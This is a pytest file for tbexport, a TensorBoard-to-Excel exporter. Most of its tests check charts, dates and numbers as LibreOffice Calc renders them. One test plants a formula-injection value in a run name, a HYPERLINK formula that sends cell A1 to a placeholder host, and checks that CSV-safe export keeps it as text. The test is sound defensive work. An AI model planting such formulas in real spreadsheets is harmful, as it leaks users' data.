"""Workbooks as a spreadsheet program shows them, and the workbook parts behind that.

The first tests read the parts a spreadsheet draws from (chart XML, the zip, the
date style, the index) and need nothing installed. The others open tbexport's
workbooks in LibreOffice Calc (``soffice --headless``), where installed: each sheet
converted to CSV is compared with tbexport's own CSV export of the same runs, and
the workbooks converted to PDF show their charts (text with ``pdftotext``, pixels
with ``pdftoppm``).

LibreOffice 7.4 writes a number with at most 15 significant digits in every file
it exports (CSV, ODS, XLSX alike), whatever it holds, and in plain notation with at
most 20 decimals (``3.14159265358979e-12`` is written ``0.00000000000314159265``):
it rounds the shortest round-trip text of the double half up, so a value is
compared with that rounding (or exactly, where LibreOffice writes 16 digits or
more: DBL_MAX, newer versions). That the 17 digits tbexport writes are read back
bit for bit is checked with openpyxl in ``test_outputs.py``. A date cell is
written as shown (``2023-11-14 22:13:20.123``): to the millisecond, rounded,
except that LibreOffice does not round 59.9996 s up into the next minute (nor any
second into the next one, but at midnight): it shows ``59.999``.
"""

from __future__ import annotations

import csv
import datetime as dt
import math
import os
import re
import subprocess
import time
import warnings
import zipfile
from collections.abc import Callable, Sequence
from decimal import ROUND_HALF_UP, Decimal
from fractions import Fraction
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

import tbexport
from tbexport.exceptions import OutputWarning
from tbexport.writing import charts, excel

from .builders import content_tensor, scalars_metadata, simple, tensor_event, write_events
from .programs import require

START = 1_700_000_000.0  # 2023-11-14 22:13:20 UTC
SHEET_CSV = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
ONE_PAGE_PER_SHEET = 'pdf:calc_pdf_Export:{"SinglePageSheets":{"type":"boolean","value":"true"}}'
TAB_BLUE = (0x1F, 0x77, 0xB4)  # the first run's colour (charts.PALETTE[0])


def _doubles(tag: str, points: Sequence[tuple[int, float, float]]) -> list[object]:
    """float64 scalar events (tensor summaries), each (step, value, wall time)."""
    return [
        tensor_event(tag, s, content_tensor(v, "double"), metadata=scalars_metadata(), wall_time=w)
        for s, v, w in points
    ]


def _sweep(root: Path, runs: int = 3) -> Path:
    """Runs with a long tag (lengths, steps and a NaN differ) and ``test_acc`` logged once."""
    rng = np.random.default_rng(1)
    for k in range(runs):
        steps = range(0, 60 - 10 * k, 1 + k)
        loss = [(s, float(1 / (s + 1 + k) + 0.01 * rng.random()), START + s * 0.37) for s in steps]
        if k == 2:
            loss[3] = (loss[3][0], math.nan, loss[3][2])
        events = [*_doubles("loss", loss), simple("test_acc", steps[-1], 0.9 - k / 10)]
        write_events(root / f"version_{k}" / "events.out.tfevents.1", events)
        (root / f"version_{k}" / "hparams.yaml").write_text(f"lr: {10.0**-k}\nseed: {k}\n")
    return root


def _chart_xml(book: Path, sheet: str) -> str:
    """The chart part drawn on ``sheet``."""
    workbook = openpyxl.load_workbook(book, read_only=True)
    names = workbook.sheetnames
    workbook.close()
    number = names.index(sheet) + 1
    with zipfile.ZipFile(book) as archive:
        rels = archive.read(f"xl/worksheets/_rels/sheet{number}.xml.rels").decode()
        drawing = re.search(r'Target="\.\./drawings/(drawing\d+)\.xml"', rels)
        assert drawing is not None
        rels = archive.read(f"xl/drawings/_rels/{drawing.group(1)}.xml.rels").decode()
        chart = re.search(r'Target="\.\./charts/(chart\d+\.xml)"', rels)
        assert chart is not None
        return archive.read(f"xl/charts/{chart.group(1)}").decode()


def _series(chart: str) -> dict[str, str]:
    """Each series' name -> its XML."""
    return {
        m.group(1): m.group(0)
        for m in re.finditer(r"<c:ser>.*?<c:tx><c:v>(.*?)</c:v>.*?</c:ser>", chart)
    }


# -- the workbook parts (no LibreOffice needed) --------------------------------------


def test_a_series_of_few_points_is_drawn_with_markers(tmp_path: Path) -> None:
    """``test_acc``, logged once by ``trainer.test()``: a line of one point is nothing;
    a marker shows it. Long series stay plain lines."""
    root = _sweep(tmp_path / "runs")
    for layout in ("long", "wide"):
        book = tbexport.export(
            root, tmp_path / f"{layout}.xlsx", layout=layout, charts=True, smooth=0.6
        ).output
        assert book is not None
        one_point = _series(_chart_xml(book, "test_acc"))
        assert len(one_point) == 6  # 3 runs, raw and smoothed
        assert all('<c:symbol val="circle"/>' in s for s in one_point.values()), layout
        long = _series(_chart_xml(book, "loss"))
        assert all('<c:symbol val="none"/>' in s for s in long.values()), layout


def test_markers_follow_the_number_of_points() -> None:
    def chart(points: int | None) -> str:
        return charts.line_chart("s", "t", [charts.ChartSeries("a", "A", "B", 2, 9, points=points)])

    assert '<c:symbol val="circle"/>' in chart(1)
    assert '<c:symbol val="circle"/>' in chart(charts.MARKER_POINTS)
    assert '<c:symbol val="none"/>' in chart(charts.MARKER_POINTS + 1)
    assert '<c:symbol val="none"/>' in chart(None)


@pytest.mark.parametrize("layout", ["long", "wide"])
def test_a_chart_of_too_many_lines_leaves_out_whole_runs_and_says_so(
    tmp_path: Path, layout: str
) -> None:
    root = tmp_path / "many"
    for k in range(130):
        write_events(
            root / f"run_{k:03d}" / "events.out.tfevents.1",
            [simple("loss", s, k + 1 / (s + 1)) for s in range(20)],
        )
    result = tbexport.export(root, tmp_path / "many.xlsx", layout=layout, charts=True, smooth=0.6)
    assert result.output is not None
    assert result.notes == [
        "sheet 'loss': its chart draws 254 of 260 lines (the first 127 of 130 runs); "
        "an Excel chart holds at most 255 lines"
    ]
    names = list(_series(_chart_xml(result.output, "loss")))
    raw = [n for n in names if not n.endswith(" (smoothed)")]
    smoothed = [n.removesuffix(" (smoothed)") for n in names if n.endswith(" (smoothed)")]
    assert sorted(raw) == sorted(smoothed) == [f"run_{k:03d}" for k in range(127)]
    # the data are all there: only the chart is capped
    sheet = openpyxl.load_workbook(result.output)["loss"]
    assert (sheet.max_row, sheet.max_column) == ((2601, 5) if layout == "long" else (21, 261))
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # 255 lines or fewer: no warning
        tbexport.export(root / "run_000", tmp_path / "one.xlsx", charts=True, smooth=0.6)


def test_a_warning_of_the_chart_writer_is_an_output_warning() -> None:
    lines = [charts.ChartSeries(f"r{k}", "A", "B", 2, 3, key=f"r{k}") for k in range(256)]
    with pytest.warns(OutputWarning, match="draws 255 of 256 lines"):
        chart = charts.line_chart("s", "t", lines)
    assert chart.count("<c:ser>") == 255


def test_count_of_reduced_runs_has_its_own_axis(tmp_path: Path) -> None:
    """``count`` (how many runs) is no value: it is drawn against a secondary axis on
    the right, not squashing mean and std on the value axis."""
    root = _sweep(tmp_path / "runs")
    book = tbexport.export(root, tmp_path / "r.xlsx", charts=True, reduce="mean,std,count").output
    assert book is not None
    chart = _chart_xml(book, "loss")
    first, second = re.findall(r"<c:scatterChart>.*?</c:scatterChart>", chart)
    assert list(_series(first)) == ["mean", "std"]
    assert list(_series(second)) == ["count"]
    assert '<c:axId val="3"/><c:axId val="4"/></c:scatterChart>' in second
    axes = re.findall(r"<c:valAx>.*?</c:valAx>", chart)
    assert len(axes) == 4
    assert '<c:delete val="1"/>' in axes[2]  # the secondary x axis is the same steps
    assert '<c:axPos val="r"/>' in axes[3] and "<a:t>count</a:t>" in axes[3]
    assert '<c:crosses val="max"/>' in axes[3]
    wide = tbexport.export(
        root, tmp_path / "w.xlsx", charts=True, reduce="mean,count", layout="wide", smooth=0.5
    ).output
    assert wide is not None
    second = re.findall(r"<c:scatterChart>.*?</c:scatterChart>", _chart_xml(wide, "loss"))[1]
    assert list(_series(second)) == ["count", "count (smoothed)"]
    # only counts: one axis, theirs
    alone = tbexport.export(root, tmp_path / "c.xlsx", charts=True, reduce="count").output
    assert alone is not None
    assert _chart_xml(alone, "loss").count("<c:scatterChart>") == 1


def test_the_same_runs_give_the_same_workbook_bytes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = _sweep(tmp_path / "runs")
    first = tbexport.export(root, tmp_path / "a.xlsx", charts=True, smooth=0.6).output
    assert first is not None
    # later, and the inputs touched: another clock, other modification times
    for event_file in root.rglob("events.out.tfevents.*"):
        os.utime(event_file, (START, START))
    later = time.localtime(time.time() + 86400 * 400 + 3723)
    monkeypatch.setattr(time, "localtime", lambda *_: later)
    second = tbexport.export(root, tmp_path / "b.xlsx", charts=True, smooth=0.6).output
    assert second is not None
    assert first.read_bytes() == second.read_bytes()
    with zipfile.ZipFile(second) as archive:
        infos = archive.infolist()
    assert {info.date_time for info in infos} == {(1980, 1, 1, 0, 0, 0)}
    assert {info.compress_type for info in infos} == {zipfile.ZIP_DEFLATED}
    assert all(info.external_attr >> 16 == 0o600 for info in infos)
    assert not any(info.filename.startswith("docProps/") for info in infos)  # (no time in it)


def test_date_cells_keep_milliseconds_and_exact_serials(tmp_path: Path) -> None:
    times = [START + 0.123, START + 0.0006, START + 59.9996, 1e9 + 1 / 3, 86399.9994]
    events = [simple("loss", s, 1.0, wall_time=w) for s, w in enumerate(times)]
    write_events(tmp_path / "run" / "events.out.tfevents.1", events)
    book = tbexport.export(tmp_path / "run", tmp_path / "d.xlsx", time="datetime").output
    assert book is not None
    sheet = openpyxl.load_workbook(book)["loss"]
    assert sheet["B1"].value == "datetime"
    assert sheet["B2"].is_date and sheet["B2"].number_format == r"yyyy\-mm\-dd\ hh:mm:ss.000"
    assert sheet.column_dimensions["B"].width >= 23  # room for it: not ######
    with zipfile.ZipFile(book) as archive:
        xml = archive.read("xl/worksheets/sheet3.xml").decode()
    serials = [float(v) for v in re.findall(r'<c r="B\d+" s="3"><v>([^<]*)</v>', xml)]
    # the serial date nearest to the logged time, not the double rounding of t/86400+25569
    assert serials == [float(Fraction(t) / 86400 + 25569) for t in times]


def test_serial_dates_are_the_nearest_doubles() -> None:
    rng = np.random.default_rng(3)
    times = np.concatenate([rng.uniform(0, 4e9, 3000), np.round(rng.uniform(1e9, 2e9, 3000), 3)])
    serials = excel.excel_serial(times)
    expected = [float(Fraction(float(t)) / 86400 + 25569) for t in times]
    assert serials.tolist() == expected  # (t / 86400 + 25569 misses ~20% by a bit)
    assert np.isnan(excel.excel_serial(np.array([math.nan]))).all()  # (an empty cell)


def test_relabelled_runs_keep_their_directory(tmp_path: Path) -> None:
    root = _sweep(tmp_path / "runs")
    book = tbexport.export(root, tmp_path / "n.xlsx", name_by="hparam:seed").output
    assert book is not None
    workbook = openpyxl.load_workbook(book, read_only=True)
    index = [tuple(r) for r in workbook["index"].iter_rows(values_only=True)]
    assert index[0] == ("run", "dir", *excel.INDEX_COLUMNS[1:])
    assert index[1][:4] == ("seed=0", "version_0", "loss", "loss")
    assert {(r[0], r[1]) for r in index[1:]} == {(f"seed={k}", f"version_{k}") for k in range(3)}
    hparams = [tuple(r) for r in workbook["hparams"].iter_rows(values_only=True)]
    assert hparams[0] == ("run", "dir", "lr", "seed")
    assert hparams[1] == ("seed=0", "version_0", 1.0, 0)
    plain = tbexport.export(root, tmp_path / "p.xlsx").output
    assert plain is not None
    workbook = openpyxl.load_workbook(plain, read_only=True)
    assert next(workbook["index"].iter_rows(values_only=True)) == tuple(excel.INDEX_COLUMNS)
    assert next(workbook["hparams"].iter_rows(values_only=True)) == ("run", "lr", "seed")


def test_a_hyperparameter_named_dir_is_kept_beside_the_directory(tmp_path: Path) -> None:
    root = tmp_path / "runs"
    for k in range(2):
        write_events(root / f"v{k}" / "events.out.tfevents.1", [simple("loss", 0, 1.0)])
        (root / f"v{k}" / "hparams.yaml").write_text(f"dir: data{k}\nseed: {k}\n")
    book = tbexport.export(root, tmp_path / "n.xlsx", name_by="hparam:seed").output
    assert book is not None
    workbook = openpyxl.load_workbook(book, read_only=True)
    rows = [tuple(r) for r in workbook["hparams"].iter_rows(values_only=True)]
    workbook.close()
    assert rows[0] == ("run", "dir", "dir (hparam)", "seed")
    assert rows[1] == ("seed=0", "v0", "data0", 0)


# -- in LibreOffice Calc ------------------------------------------------------------------


Convert = Callable[[Sequence[Path], str], Path]


@pytest.fixture(scope="session")
def calc(tmp_path_factory: pytest.TempPathFactory) -> Convert:
    """Convert workbooks with LibreOffice into a new directory (returned): one profile
    for the session, made fresh (none of a person's, no lock left by another)."""
    soffice = require("soffice")
    profile = tmp_path_factory.mktemp("libreoffice-profile")
    version = subprocess.run(
        [soffice, "--version"], capture_output=True, text=True, timeout=60, check=True
    ).stdout
    found = re.search(r"(\d+)\.(\d+)", version)
    assert found and (int(found[1]), int(found[2])) >= (7, 2), f"one CSV per sheet: {version}"
    calls = iter(range(1_000_000))

    def convert(books: Sequence[Path], target: str) -> Path:
        out = tmp_path_factory.mktemp(f"converted-{next(calls)}")
        command = [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--norestore",
            "--convert-to",
            target,
            "--outdir",
            str(out),
            *map(str, books),
        ]
        done = subprocess.run(command, capture_output=True, text=True, timeout=240)
        assert done.returncode == 0, done.stderr
        return out

    return convert


def _sheets(converted: Path, book: Path) -> dict[str, list[list[str]]]:
    """LibreOffice's CSV of each sheet of ``book``: sheet name -> rows of texts."""
    prefix = f"{book.stem}-"
    return {
        path.stem.removeprefix(prefix): list(csv.reader(path.open(encoding="utf-8", newline="")))
        for path in sorted(converted.glob(f"{prefix}*.csv"))
    }


def _reference(path: Path) -> pd.DataFrame:
    """tbexport's own CSV, read with pandas (every double exactly)."""
    return pd.read_csv(path, keep_default_na=False, na_values=[""])


def _significant(text: str) -> int:
    mantissa = re.sub(r"[eE].*", "", text).lstrip("+-").replace(".", "").lstrip("0")
    return len(mantissa)


def _rounded(value: float, digits: int, decimals: int | None = None) -> Decimal:
    """``value``'s shortest text rounded half up to ``digits`` significant digits (and
    ``decimals`` places), as LibreOffice rounds."""
    text = Decimal(repr(value))
    if text == 0:
        return text
    places = digits - 1 - text.adjusted()
    if decimals is not None:
        places = min(places, decimals)
    return text.quantize(Decimal(1).scaleb(-places), rounding=ROUND_HALF_UP)


def _same_number(text: str, expected: float, blank_nan: bool = False) -> bool:
    """Whether LibreOffice's text is ``expected``: exact where it writes 16 digits or
    more, else ``expected`` rounded as it rounds (15 digits, 20 decimals in plain
    notation), or correctly rounded to 15 digits."""
    if math.isnan(expected):
        return text == ("" if blank_nan else "nan")
    if math.isinf(expected):
        return text == ("inf" if expected > 0 else "-inf")
    if _significant(text) > 15:
        return float(text) == expected
    plain = "e" not in text.lower()
    shown = Decimal(text)
    return shown == _rounded(expected, 15, 20 if plain else None) or (
        float(text) == float(f"{expected:.15g}")
    )


def _check_long_sheet(rows: list[list[str]], expected: pd.DataFrame, runs: bool) -> None:
    """A long tag sheet as LibreOffice shows it against tbexport's CSV rows of the tag."""
    columns = [c for c in ("step", "wall_time", "value", "value_smoothed") if c in expected]
    assert rows[0] == (["run"] if runs else []) + columns
    assert len(rows) - 1 == len(expected)
    for row, (_, want) in zip(rows[1:], expected.iterrows(), strict=True):
        cells = row[1:] if runs else row
        if runs:
            assert row[0] == want["run"]
        assert int(cells[0]) == want["step"]
        for text, column in zip(cells[1:], columns[1:], strict=True):
            assert _same_number(text, float(want[column])), (text, column, want.to_dict())


def test_one_run_in_libreoffice(calc: Convert, tmp_path: Path) -> None:
    """One run, float64 values of every kind (NaN and ±Inf as text), index and summary."""
    values = [1 / 3, 0.1, -2.5e-300, 1.7976931348623157e308, math.nan, math.inf, -math.inf, 0.0]
    values += [math.pi * 10.0**k for k in range(-12, 13, 3)] + [5e-324, -0.0, 2.0**-30]
    points = [(s, v, START + s / 7) for s, v in enumerate(values)]
    write_events(tmp_path / "run" / "events.out.tfevents.1", _doubles("odd", points))
    book = tbexport.export(tmp_path / "run", tmp_path / "one.xlsx").output
    reference = tbexport.export(tmp_path / "run", tmp_path / "one.csv").output
    assert book is not None and reference is not None
    sheets = _sheets(calc([book], SHEET_CSV), book)
    assert list(sheets) == ["index", "odd", "summary"]  # (files sorted by name)
    expected = _reference(reference)
    _check_long_sheet(sheets["odd"], expected, runs=False)
    index = sheets["index"]
    assert index[0] == excel.INDEX_COLUMNS
    assert index[1][:6] == ["run", "odd", "odd", str(len(values)), "0", str(len(values) - 1)]
    assert index[1][-1] == "3"  # nonfinite: NaN, inf, -inf


def test_runs_long_and_wide_with_charts_and_smoothing_in_libreoffice(
    calc: Convert, tmp_path: Path
) -> None:
    root = _sweep(tmp_path / "runs")
    long = tbexport.export(root, tmp_path / "long.xlsx", charts=True, smooth=0.6).output
    wide = tbexport.export(
        root, tmp_path / "wide.xlsx", layout="wide", charts=True, smooth=0.6
    ).output
    long_csv = tbexport.export(root, tmp_path / "long.csv", smooth=0.6).output
    wide_csv = tbexport.export(root, tmp_path / "wide.csv", layout="wide", smooth=0.6).output
    assert long and wide and long_csv and wide_csv
    converted = calc([long, wide], SHEET_CSV)
    sheets = _sheets(converted, long)
    assert list(sheets) == ["hparams", "index", "loss", "summary", "test_acc"]
    expected = _reference(long_csv)
    for tag in ("loss", "test_acc"):
        _check_long_sheet(sheets[tag], expected[expected["tag"] == tag], runs=True)
    assert sheets["hparams"][1:] == [[f"version_{k}", f"{10.0**-k:g}", str(k)] for k in range(3)]
    sheets = _sheets(converted, wide)
    by_tag = _reference(wide_csv)
    for tag in ("loss", "test_acc"):
        rows, want = sheets[tag], by_tag[by_tag["tag"] == tag].drop(columns="tag")
        assert rows[0] == list(want.columns)
        assert len(rows) - 1 == len(want)
        for row, (_, cells) in zip(rows[1:], want.iterrows(), strict=True):
            assert int(row[0]) == cells["step"]
            for text, value in zip(row[1:], cells.iloc[1:], strict=True):
                # the wide layout leaves a NaN (and a step not logged) blank
                assert _same_number(text, float(value), blank_nan=True), (text, value)


def test_dates_to_the_millisecond_in_libreoffice(calc: Convert, tmp_path: Path) -> None:
    # wall times away from half a millisecond, one rounding up over a second, minute and day
    times = [START, START + 0.123, START + 0.0006, START + 1.9994, START + 39.9996]
    times += [START + 0.001234 * s for s in range(1, 200)] + [1e9 + 1 / 3, 86399.9996]
    events = [simple("loss", s, 1.0, wall_time=w) for s, w in enumerate(times)]
    write_events(tmp_path / "run" / "events.out.tfevents.1", events)
    book = tbexport.export(tmp_path / "run", tmp_path / "d.xlsx", time="datetime").output
    reference = tbexport.export(tmp_path / "run", tmp_path / "d.csv", time="datetime").output
    assert book is not None and reference is not None
    rows = _sheets(calc([book], SHEET_CSV), book)["loss"]
    assert rows[0] == ["step", "datetime", "value"]
    iso = pd.to_datetime(_reference(reference)["datetime"], utc=True).dt.tz_localize(None)
    epoch = dt.datetime(1970, 1, 1)
    for row, wall_time, logged in zip(rows[1:], times, iso, strict=True):
        shown = dt.datetime.strptime(row[1], "%Y-%m-%d %H:%M:%S.%f")
        exact = Fraction(wall_time) * 1000
        milliseconds = {round(exact)}  # the logged time, rounded
        if round(exact) % 1000 == 0 and round(exact) > exact:
            milliseconds.add(round(exact) - 1)  # 59.999, not the next minute
        assert shown in {epoch + dt.timedelta(milliseconds=m) for m in milliseconds}, row
        assert abs(pd.Timestamp(shown) - logged) < pd.Timedelta(milliseconds=1)
    assert [row[1] for row in rows[1:5]] == [
        "2023-11-14 22:13:20.000",
        "2023-11-14 22:13:20.123",
        "2023-11-14 22:13:20.001",
        "2023-11-14 22:13:21.999",
    ]
    assert rows[5][1] in ("2023-11-14 22:14:00.000", "2023-11-14 22:13:59.999")  # (7.4)
    assert rows[-2][1] == "2001-09-09 01:46:40.333"
    assert rows[-1][1] == "1970-01-02 00:00:00.000"  # 23:59:59.9996


def test_a_long_tag_in_libreoffice(calc: Convert, tmp_path: Path) -> None:
    """100,000 float32 points, as training loops log them: every value as LibreOffice
    shows it, against tbexport's CSV."""
    rng = np.random.default_rng(5)
    values = rng.lognormal(0.0, 2.0, 100_000).astype(np.float32)
    events = [simple("train_loss", s, float(v), START + s * 0.05) for s, v in enumerate(values)]
    write_events(tmp_path / "run" / "events.out.tfevents.1", events)
    book = tbexport.export(tmp_path / "run", tmp_path / "big.xlsx").output
    reference = tbexport.export(tmp_path / "run", tmp_path / "big.csv").output
    assert book is not None and reference is not None
    rows = _sheets(calc([book], SHEET_CSV), book)["train_loss"]
    expected = _reference(reference)
    assert len(rows) - 1 == len(expected) == 100_000
    shown = pd.DataFrame(rows[1:], columns=rows[0])
    assert (shown["step"].astype(np.int64) == expected["step"]).all()
    for column in ("wall_time", "value"):
        texts, want = shown[column].tolist(), expected[column].tolist()
        wrong = [(t, w) for t, w in zip(texts, want, strict=True) if not _same_number(t, w)]
        assert not wrong, wrong[:5]


# -- charts as LibreOffice draws them --------------------------------------------------


def _words(pdf: Path, page: int) -> list[tuple[str, float, float, float, float]]:
    """The words of a page with their boxes (points): (word, x0, y0, x1, y1)."""
    text = subprocess.run(
        [require("pdftotext"), "-bbox", "-f", str(page), "-l", str(page), str(pdf), "-"],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    ).stdout
    pattern = r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)'
    return [
        (w, float(a), float(b), float(c), float(d)) for a, b, c, d, w in re.findall(pattern, text)
    ]


def _pixels(pdf: Path, page: int, out: Path) -> tuple[int, int, bytes]:
    """The page rendered at 72 dpi (a pixel a point): width, height, RGB bytes."""
    subprocess.run(
        [require("pdftoppm"), "-r", "72", "-f", str(page), "-l", str(page), str(pdf), str(out)],
        capture_output=True,
        timeout=60,
        check=True,
    )
    (image,) = out.parent.glob(f"{out.name}*.ppm")
    data = image.read_bytes()
    header = re.match(rb"P6\s+(\d+)\s+(\d+)\s+255\s", data)
    assert header is not None
    width, height = int(header[1]), int(header[2])
    return width, height, data[header.end() :]


def _coloured(
    image: tuple[int, int, bytes], box: tuple[float, float, float, float], colour: tuple[int, ...]
) -> int:
    """How many pixels in ``box`` (x0, y0, x1, y1) are about ``colour``."""
    width, height, rgb = image
    pixels = np.frombuffer(rgb, np.uint8).reshape(height, width, 3).astype(np.int64)
    x0, y0, x1, y1 = (int(v) for v in box)
    area = pixels[max(0, y0) : min(height, y1), max(0, x0) : min(width, x1)]
    return int((np.abs(area - np.array(colour)).sum(axis=2) < 60).sum())


def _chart_words(
    words: list[tuple[str, float, float, float, float]], title: str
) -> tuple[tuple[str, float, float, float, float], list[str], list[str]]:
    """The chart's title box, its axis titles left to right (words set upright) and
    the other words below the title (ticks, legend)."""
    heading = max((w for w in words if w[0] == title), key=lambda w: w[4] - w[2])
    upright = sorted(
        (w for w in words if w[4] - w[2] > max(20, 1.5 * (w[3] - w[1]))), key=lambda w: w[1]
    )
    axes = [w[0] for w in upright if w[1] > heading[1] - 800]
    below = [
        w[0] for w in words if w[2] > heading[4] and w[1] > heading[1] - 800 and w not in upright
    ]
    return heading, axes, below


def test_charts_in_libreoffice(calc: Convert, tmp_path: Path) -> None:
    """The charts LibreOffice draws from a sweep (smoothed), its statistics (count on
    an axis on the right), and a one-point series (its marker is there, in the plot)."""
    root = _sweep(tmp_path / "runs")
    sweep = tbexport.export(root, tmp_path / "sweep.xlsx", charts=True, smooth=0.6).output
    stats = tbexport.export(
        root, tmp_path / "stats.xlsx", charts=True, reduce="mean,std,count"
    ).output
    one = tbexport.export(root / "version_0", tmp_path / "one.xlsx", charts=True).output
    dates = tbexport.export(root, tmp_path / "dates.xlsx", time="datetime").output
    assert sweep and stats and one and dates
    pdfs = calc([sweep, stats, one, dates], ONE_PAGE_PER_SHEET)
    pages = {
        name: int(re.findall(r"Pages:\s+(\d+)", _info(pdfs / f"{name}.pdf"))[0])
        for name in ("sweep", "stats", "one", "dates")
    }
    # one page a sheet: index, summary, (hparams,) loss, test_acc
    assert pages == {"sweep": 5, "stats": 4, "one": 5, "dates": 5}
    _, axes, below = _chart_words(_words(pdfs / "sweep.pdf", 4), "loss")
    assert axes == ["value"]
    assert "step" in below and below.count("(smoothed)") == 3  # the legend
    heading, axes, below = _chart_words(_words(pdfs / "stats.pdf", 3), "loss")
    assert axes == ["value", "count"]  # count: the secondary axis, on the right
    count = next(w for w in _words(pdfs / "stats.pdf", 3) if w[0] == "count" and w[4] - w[2] > 20)
    assert count[1] > heading[3]
    assert [w for w in below if w in ("mean", "std", "count")] == ["mean", "std", "count"]
    assert "###" not in [w[0] for w in _words(pdfs / "dates.pdf", 4)]  # wide enough

    # version_0's test_acc: one point, in the first colour, on page 5 of one.pdf
    words = _words(pdfs / "one.pdf", 5)
    heading, axes, _ = _chart_words(words, "test_acc")
    assert axes == ["value"]
    axis = next(w for w in words if w[0] == "value" and w[4] - w[2] > 20)
    ticks = min(w[2] for w in words if w[0] == "step" and w[2] > heading[4])
    image = _pixels(pdfs / "one.pdf", 5, tmp_path / "one_point")
    plot = (axis[3] + 30, heading[4] + 2, image[0], ticks - 20)  # (no legend, no ticks)
    assert _coloured(image, plot, TAB_BLUE) >= 12, "no marker drawn for the one point"


def _info(pdf: Path) -> str:
    return subprocess.run(
        [require("pdfinfo"), str(pdf)], capture_output=True, text=True, timeout=60, check=True
    ).stdout


def test_csv_safe_names_stay_text_in_a_spreadsheet(tmp_path: Path, calc: Convert) -> None:
    hostile = '=HYPERLINK("http://x.invalid/?"&A1;"click")'
    write_events(tmp_path / "logs" / "=1+1" / "events.out.tfevents.1", [simple(hostile, 1, -2.5)])
    write_events(tmp_path / "logs" / "@b" / "events.out.tfevents.1", [simple("+t", 1, 3.0)])
    raw, safe = tmp_path / "raw.csv", tmp_path / "safe.csv"
    tbexport.export(tmp_path / "logs", raw)
    tbexport.export(tmp_path / "logs", safe, csv_safe=True)
    quoted = hostile.replace('"', '""')
    assert safe.read_text().splitlines()[1:] == [
        f"'=1+1,\"'{quoted}\",1,1001.0,-2.5",
        "'@b,'+t,1,1001.0,3.0",
    ]
    out = calc([raw, safe], "xlsx")
    cells = {
        name: [
            (c.value, c.data_type) for c in openpyxl.load_workbook(out / f"{name}.xlsx").active[2]
        ]
        for name in ("raw", "safe")
    }
    assert cells["raw"][0] == ("=1+1", "f")  # what a raw CSV does: a live formula
    assert cells["safe"][0] == ("'=1+1", "s")
    assert cells["safe"][1] == ("'" + hostile, "s")
    assert cells["safe"][4] == (-2.5, "n")  # numbers are never changed


def test_names_in_a_workbook_are_text_not_formulas(tmp_path: Path, calc: Convert) -> None:
    for run in ("=1+1", "@b"):
        write_events(tmp_path / "logs" / run / "events.out.tfevents.1", [simple("=2*3", 1, 4.0)])
    book = tbexport.export(tmp_path / "logs", tmp_path / "w.xlsx").output
    assert book is not None
    out = calc([book], SHEET_CSV)
    index = _sheets(out, book)["index"]
    assert [row[:2] for row in index[1:]] == [["=1+1", "=2*3"], ["@b", "=2*3"]]  # as text
